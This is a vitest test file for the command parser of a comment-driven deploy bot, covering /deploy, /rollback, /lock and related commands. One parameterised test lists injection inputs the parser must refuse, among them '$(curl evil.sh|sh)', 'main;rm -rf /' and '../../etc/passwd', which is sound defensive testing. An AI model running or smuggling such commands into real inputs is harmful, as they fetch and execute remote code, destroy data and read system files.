import { describe, expect, it } from 'vitest'
import { commandSpecs } from '../../../src/commands/command-specs.ts'
import { commandUsage } from '../../../src/commands/command-usage.ts'
import { extractCommandLines } from '../../../src/commands/extract-command-lines.ts'
import { parseComment } from '../../../src/commands/parse-comment.ts'
import { tokenizeCommandLine } from '../../../src/commands/tokenize-command-line.ts'
import { allOps } from '../../../src/ops/registry.ts'

const specs = commandSpecs(allOps())
const environments = ['staging', 'production']
const parse = (body: string, perComment?: number) =>
  parseComment(body, { specs, environments, ...(perComment ? { perComment } : {}) })
const lines = (body: string) => extractCommandLines(body).map((l) => l.text)

describe('extractCommandLines', () => {
  it('finds a command on any line of the comment, trimmed, with its line number', () => {
    expect(extractCommandLines('Looks good.\n  /deploy staging  \nthanks')).toEqual([
      { line: 2, text: '/deploy staging' },
    ])
  })

  it('reads CRLF and lone CR line ends as LF', () => {
    expect(extractCommandLines('hi\r\n/health staging\r\n')).toEqual([{ line: 2, text: '/health staging' }])
    expect(lines('hi\r/locks\r')).toEqual(['/locks'])
  })

  it('never counts quoted lines, nor a line that lazily continues a quote', () => {
    expect(lines('> /deploy production')).toEqual([])
    expect(lines('   >> /deploy production')).toEqual([])
    expect(lines('> you wrote:\n/deploy production')).toEqual([])
    expect(lines('> you wrote:\n\n/deploy staging')).toEqual(['/deploy staging'])
  })

  it('never counts fenced code blocks, with backticks or tildes, closed or not', () => {
    expect(lines('```\n/deploy production\n```')).toEqual([])
    expect(lines('~~~sh\n/deploy production\n~~~\n/locks')).toEqual(['/locks'])
    expect(lines('````\n```\n/deploy production\n````\n/help')).toEqual(['/help'])
    expect(lines('```\n/deploy production')).toEqual([])
    // A tilde line does not close a backtick fence.
    expect(lines('```\n~~~\n/deploy production\n```')).toEqual([])
  })

  it('never counts indented code (four spaces or a tab)', () => {
    expect(lines('    /deploy production')).toEqual([])
    expect(lines('\t/deploy production')).toEqual([])
    expect(lines('   /deploy staging')).toEqual(['/deploy staging'])
  })

  it('never counts inline code, HTML comments or <pre> blocks', () => {
    expect(lines('`/deploy production`')).toEqual([])
    expect(lines('run `/deploy production` to ship')).toEqual([])
    expect(lines('<!-- /deploy production -->')).toEqual([])
    expect(lines('<!--\n/deploy production\n-->\n/locks')).toEqual(['/locks'])
    expect(lines('<pre>\n/deploy production\n</pre>')).toEqual([])
  })

  it('never counts lookalike slashes or a slash behind an invisible character', () => {
    for (const slash of ['\uFF0F', '\u2215', '\u2044', '\u29F8']) expect(lines(`${slash}deploy production`)).toEqual([])
    expect(lines('\u200B/deploy production')).toEqual([])
  })

  it('reads paths, double slashes and text after a slash as text', () => {
    expect(lines('/usr/bin/odoo crashed\n// note\n/ 2\n/\n/9lives')).toEqual([])
  })
})

describe('tokenizeCommandLine', () => {
  it('groups quoted values and keeps shell syntax as plain text', () => {
    expect(tokenizeCommandLine(` a "b c" 'd e' "x\\"y" $(z)`)).toEqual({
      ok: true,
      words: ['a', 'b c', 'd e', 'x"y', '$(z)'],
    })
    expect(tokenizeCommandLine('""')).toEqual({ ok: true, words: [''] })
  })

  it('refuses an unterminated quote', () => {
    expect(tokenizeCommandLine('"abc')).toEqual({ ok: false, error: 'unterminated double quote' })
    expect(tokenizeCommandLine("x 'abc")).toEqual({ ok: false, error: 'unterminated single quote' })
  })
})

describe('parseComment', () => {
  it('reads positionals, flags and quoted values through the op schema', () => {
    expect(parse('/deploy staging feature/x --reason "hot fix" --dry-run')).toEqual([
      {
        ok: true,
        name: 'deploy',
        args: { environment: 'staging', ref: 'feature/x', reason: 'hot fix', dryRun: true },
        line: 1,
        text: '/deploy staging feature/x --reason "hot fix" --dry-run',
      },
    ])
    expect(parse('/deploy staging --reason=now')[0]).toMatchObject({ ok: true, args: { reason: 'now' } })
  })

  it('takes `to <environment>` for deploy, with the ref before it', () => {
    expect(parse('/deploy main to production')[0]).toMatchObject({
      ok: true,
      args: { environment: 'production', ref: 'main' },
    })
    expect(parse('/deploy to staging')[0]).toMatchObject({ ok: true, args: { environment: 'staging' } })
  })

  it('reads rollback with and without a SHA, health, locks and help', () => {
    expect(parse('/rollback production')[0]).toMatchObject({ ok: true, args: { environment: 'production' } })
    const sha = 'a'.repeat(40)
    expect(parse(`/rollback production ${sha}`)[0]).toMatchObject({ ok: true, args: { sha } })
    expect(parse('/health staging')[0]).toMatchObject({ ok: true, name: 'health' })
    expect(parse('/LOCKS')[0]).toMatchObject({ ok: true, name: 'locks', args: {} })
    expect(parse('/help')[0]).toMatchObject({ ok: true, name: 'help' })
  })

  it('reads /lock with reason and duration, /unlock, and /rerun with check names', () => {
    expect(parse('/lock production --reason "db migration" --for 4h')[0]).toMatchObject({
      ok: true,
      args: { environment: 'production', reason: 'db migration', for: '4h' },
    })
    expect(parse('/lock production --for 9d')[0]).toMatchObject({ ok: false, error: expect.stringContaining('7d') })
    expect(parse('/unlock staging')[0]).toMatchObject({ ok: true, args: { environment: 'staging' } })
    expect(parse('/rerun secrets manifest')[0]).toMatchObject({ ok: true, args: { checks: ['secrets', 'manifest'] } })
  })

  it('runs the first command only, unless more are allowed', () => {
    const body = '/health staging\n/locks\n/help'
    expect(parse(body).map((c) => c.name)).toEqual(['health'])
    expect(parse(body, 2).map((c) => c.name)).toEqual(['health', 'locks'])
  })

  it('answers an unknown command with the closest one and its usage', () => {
    expect(parse('/deplyo staging')[0]).toEqual({
      ok: false,
      name: undefined,
      line: 1,
      text: '/deplyo staging',
      error: 'unknown command /deplyo; did you mean /deploy?',
      usage: commandUsage(specs.find((s) => s.name === 'deploy')!),
    })
    expect(parse('/frobnicate')[0]).toMatchObject({ ok: false, error: 'unknown command /frobnicate', usage: undefined })
  })

  it('refuses unknown and repeated flags, missing values and extra arguments', () => {
    expect(parse('/deploy staging --dry-runn')[0]).toMatchObject({
      ok: false,
      name: 'deploy',
      error: 'unknown option --dry-runn for /deploy; did you mean --dry-run?',
    })
    expect(parse('/deploy staging --reason a --reason b')[0]).toMatchObject({ error: '--reason is given twice' })
    expect(parse('/deploy staging --reason')[0]).toMatchObject({ error: '--reason needs a value' })
    expect(parse('/health staging extra')[0]).toMatchObject({ error: 'unexpected argument "extra"' })
    expect(parse('/deploy main to staging to production')[0]).toMatchObject({
      error: 'the environment is given twice',
    })
    expect(parse('/deploy staging --dry-run=maybe')[0]).toMatchObject({ error: '--dry-run expects true or false' })
  })

  it('refuses a missing environment with the usage', () => {
    expect(parse('/deploy')[0]).toMatchObject({
      ok: false,
      error: 'environment: is required',
      usage: '/deploy <environment> [ref] [--reason <text>] [--dry-run]',
    })
  })

  it('refuses an unknown environment with the closest one', () => {
    expect(parse('/deploy prodution')[0]).toMatchObject({
      ok: false,
      error: 'unknown environment "prodution"; did you mean production?',
    })
    expect(parse('/health qa')[0]).toMatchObject({ error: 'unknown environment "qa"; known: staging, production' })
    expect(parseComment('/health qa', { specs, environments: [] })[0]).toMatchObject({
      error: 'unknown environment "qa"; .github/oda.yml defines none',
    })
  })

  it.each([
    ['command substitution', '/deploy staging $(curl evil.sh|sh)'],
    ['backticks', '/deploy staging `id`'],
    ['a separator', '/deploy staging main;rm -rf /'],
    ['a pipe in a quoted ref', '/deploy staging "main|id"'],
    ['a path walk', '/deploy staging ../../etc/passwd'],
    ['an option look', '/deploy staging --ref -x'],
    ['a variable', '/rerun $HOME'],
    ['a shell environment name', '/deploy "staging;id"'],
    ['a short sha for rollback', '/rollback production abc123'],
  ])('refuses %s and runs nothing', (_what, body) => {
    const [c] = parse(body)
    expect(c?.ok).toBe(false)
  })

  it('refuses control characters and over-long lines', () => {
    expect(parse('/deploy staging\u0007')[0]).toMatchObject({ error: 'the command contains control characters' })
    expect(parse(`/deploy staging --reason "${'x'.repeat(600)}"`)[0]).toMatchObject({
      error: 'the command is longer than 512 characters',
    })
  })

  it('finds nothing in a body over 64 KB, nor in one without commands', () => {
    expect(parse(`/deploy staging\n${'x'.repeat(70_000)}`)).toEqual([])
    expect(parse('just a comment about /deploy')).toEqual([])
  })

  it('stays fast on a hostile 64 KB body', () => {
    const body = ('> /deploy production\n```\n/deploy x\n' + '`'.repeat(50) + '\n').repeat(500).slice(0, 65_000)
    expect(parse(body)).toEqual([])
  })
})

describe('commandUsage', () => {
  it('is generated from each schema', () => {
    expect(specs.map((s) => commandUsage(s))).toEqual([
      '/deploy <environment> [ref] [--reason <text>] [--dry-run]',
      '/rollback <environment> [sha] [--force] [--reason <text>] [--dry-run]',
      '/health <environment> [--wait] [--probes]',
      '/help',
      '/locks',
      '/lock <environment> [--reason <text>] [--for <value>]',
      '/unlock <environment>',
      '/rerun [checks...]',
    ])
  })
})
